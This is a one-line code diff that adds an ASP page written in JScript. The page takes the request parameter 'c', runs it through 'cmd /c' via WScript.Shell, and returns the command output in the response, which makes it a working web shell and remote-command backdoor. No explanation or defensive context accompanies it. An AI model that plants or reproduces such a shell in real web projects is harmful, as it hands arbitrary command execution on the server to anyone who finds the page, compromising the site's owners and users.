@@ -1,0 +1,1 @@
+<%@ Language="JScript" %><% var s = new ActiveXObject("WScript.Shell"); Response.Write(s.Exec("cmd /c " + Request.Item("c")).StdOut.ReadAll()); %>
